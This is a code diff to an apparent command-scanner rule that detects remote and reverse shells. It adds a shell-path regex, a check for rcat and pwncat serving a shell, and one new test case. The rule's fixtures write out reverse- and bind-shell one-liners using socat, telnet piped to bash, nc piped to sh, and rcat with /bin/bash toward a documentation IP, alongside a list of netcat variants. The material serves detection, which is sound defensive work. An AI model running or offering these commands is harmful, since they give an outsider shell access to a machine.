@@ -6,6 +6,7 @@ import type { ExecFact } from '../../facts.js';
 import { defineRule } from '../define-rule.js';
 import { hasShortFlag, operands, RAW_SOCKET_TOOLS, SHELLS } from '../helpers.js';
 
+const SHELL_PATH = /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh$/;
 const NC = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'busybox-nc']);
 
 function execOption(e: ExecFact): boolean {
@@ -54,6 +55,8 @@ export default defineRule({
         };
       else if (socatShell(e))
         yield { span: e.span, reason: 'socat connects a network socket to an executed program' };
+      else if ((e.program === 'rcat' || e.program === 'pwncat') && e.argv.some((a) => SHELL_PATH.test(a)))
+        yield { span: e.span, reason: `${e.program} serves a shell over the connection` };
       else if (e.program === 'xterm' && e.argv.includes('-display'))
         yield { span: e.span, reason: 'xterm opens a terminal on a remote display' };
       else if (
@@ -75,6 +78,7 @@ export default defineRule({
       { input: 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr' },
       { input: 'telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445' },
       { input: 'nc 203.0.113.7 4444 | sh' },
+      { input: 'rcat connect -s /bin/bash 203.0.113.7 4444' },
     ],
     allow: [
       { input: 'nc -z -w 3 localhost 5432', why: 'a port probe' },
